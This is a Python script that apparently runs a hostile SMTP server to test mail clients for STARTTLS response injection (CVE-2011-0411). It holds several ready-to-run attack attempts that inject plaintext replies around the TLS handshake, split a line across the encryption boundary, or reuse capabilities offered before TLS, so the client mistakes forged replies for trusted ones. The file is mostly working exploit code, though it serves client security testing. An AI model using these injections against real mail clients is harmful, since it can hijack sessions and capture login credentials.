"""Replies in plain text behind a server's reply to STARTTLS (the client's side of CVE-2011-0411; "NO STARTTLS", 2021).
    python3 starttls_server_injection.py HOST PORT [--attempt NAME]
Send letters to it. A client that keeps such a reply takes it for one that came within TLS, from the server that it trusts."""
import bad_server


def behind(*lines):
    """The attack: lines behind 220. It succeeds when the client takes them for the answer to its EHLO within TLS."""
    def attempt(session):
        session.hello('STARTTLS')
        session.starttls(*lines)
        session.hear('EHLO')  # a client with the injected answer goes on at once
        session.hear('MAIL')
        return 'the client took the injected reply for the answer to EHLO'
    return attempt


def half_a_line(session):
    session.hello('STARTTLS')
    session.hear('STARTTLS')
    session.socket.sendall(b'220 go ahead\r\n250-mx.attacker.example\r\n250')
    session.encrypt()
    session.hear('EHLO')
    session.say(' AUTH PLAIN LOGIN')
    session.hear('MAIL')
    return 'the client put together a line from outside TLS and one from inside'


def before_it_is_asked(session):
    """220 stands behind the answer to EHLO: STARTTLS has not been said."""
    session.say('220 mx.attacker.example ESMTP')
    session.hear('EHLO')
    session.say('250-mx.attacker.example', '250 STARTTLS', '220 go ahead')
    session.hear('STARTTLS')
    return 'the client says STARTTLS although it has its answer already'


def in_a_packet_of_its_own(session):
    session.hello('STARTTLS')
    session.hear('STARTTLS')
    session.say('220 go ahead')
    session.say('250 mx.attacker.example')
    session.encrypt()
    session.hear('EHLO')
    session.hear('MAIL')
    return 'the client took the injected reply for the answer to EHLO'


def old_capabilities(session):
    """Nothing is injected; but what was said before TLS must not count after it."""
    session.hello('PIPELINING', 'AUTH PLAIN LOGIN', 'STARTTLS')
    session.starttls()
    session.ehlo()
    line = session.line()
    if line.upper().startswith('AUTH'):
        return 'the client logs in with what was offered outside TLS'
    session.say('250 2.1.0 Ok')
    return 'the client pipelines as was offered outside TLS' if b'RCPT' in session.buffer else None


ATTEMPTS = {
    'ehlo-answer': behind('250 mx.attacker.example'),
    'with-auth': behind('250-mx.attacker.example', '250 AUTH PLAIN LOGIN'),
    'whole-session': behind('250 mx', '250 ok', '250 ok', '354 go', '250 taken'),
    'refusal': behind('554 5.7.1 go away'),
    'half-a-line': half_a_line,
    'own-packet': in_a_packet_of_its_own,
    'before-it-is-asked': before_it_is_asked,
    'old-capabilities': old_capabilities,
}

if __name__ == '__main__':
    bad_server.serve(__doc__, ATTEMPTS)
